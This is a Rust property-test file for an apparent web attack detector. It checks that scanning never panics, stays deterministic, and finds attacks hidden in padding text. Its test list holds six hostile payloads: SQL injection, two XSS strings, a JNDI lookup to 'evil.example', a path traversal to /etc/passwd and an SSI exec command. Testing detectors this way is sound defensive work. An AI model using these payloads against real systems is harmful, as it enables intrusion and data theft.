//! Properties that hold for every input.

use std::sync::LazyLock;

use bartizan_detect::{Engine, NoPolicy, Place, inspect};
use bartizan_request::{Limits, RequestParts};
use proptest::prelude::*;

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);

const PLACES: [Place; 8] = [
    Place::Uri,
    Place::Path,
    Place::QueryValue,
    Place::QueryName,
    Place::UserAgent,
    Place::CookieValue,
    Place::BodyValue,
    Place::FileContent,
];

/// Attacks that must be found whatever text surrounds them.
const UNHIDEABLE: [(&str, &str); 6] = [
    ("sqli", "1' union select username, password from users-- "),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("rce", "${jndi:ldap://evil.example/a}"),
    ("ptrav", "../../../../etc/passwd"),
    ("ssi", "<!--#exec cmd=\"id\"-->"),
];

fn text() -> impl Strategy<Value = String> {
    // Words and sentences, as people write them.
    proptest::collection::vec("[a-zäöü]{1,9}[,.]?", 0..60).prop_map(|words| words.join(" "))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_scanned_without_a_panic(value in proptest::collection::vec(any::<u8>(), 0..600), place in 0..PLACES.len()) {
        let mut signs = Vec::new();
        ENGINE.scan(&value, PLACES[place], &mut signs);
        for sign in signs {
            prop_assert!(sign.span.start <= sign.span.end && sign.span.end <= value.len());
        }
    }

    #[test]
    fn hostile_characters_are_scanned_without_a_panic(value in r#"[ -~'"`;|&$(){}<>=/\\%\r\n\t#*-]{0,300}"#) {
        let mut first = Vec::new();
        let mut second = Vec::new();
        ENGINE.scan(value.as_bytes(), Place::BodyValue, &mut first);
        ENGINE.scan(value.as_bytes(), Place::BodyValue, &mut second);
        prop_assert_eq!(first, second);
    }

    #[test]
    fn padding_never_hides_an_attack(before in text(), after in text(), attack in 0..UNHIDEABLE.len()) {
        let (code, payload) = UNHIDEABLE[attack];
        let value = format!("{before} {payload} {after}");
        let mut signs = Vec::new();
        ENGINE.scan(value.as_bytes(), Place::BodyValue, &mut signs);
        prop_assert!(signs.iter().any(|sign| sign.attack_type.code() == code), "{value:?}: {signs:?}");
    }

    #[test]
    fn inspection_of_any_request_is_deterministic(
        target in proptest::collection::vec(any::<u8>(), 0..80),
        body in proptest::collection::vec(any::<u8>(), 0..300),
        json in any::<bool>(),
    ) {
        let kind: &[u8] = if json { b"application/json" } else { b"application/x-www-form-urlencoded" };
        let headers: [(&[u8], &[u8]); 1] = [(b"Content-Type", kind)];
        let parts = RequestParts { method: "POST", target: &target, headers: &headers, body: &body, body_truncated: false };
        let first = inspect(&ENGINE, &parts, &Limits::default(), &mut NoPolicy).detections;
        let second = inspect(&ENGINE, &parts, &Limits::default(), &mut NoPolicy).detections;
        prop_assert_eq!(first, second);
    }
}
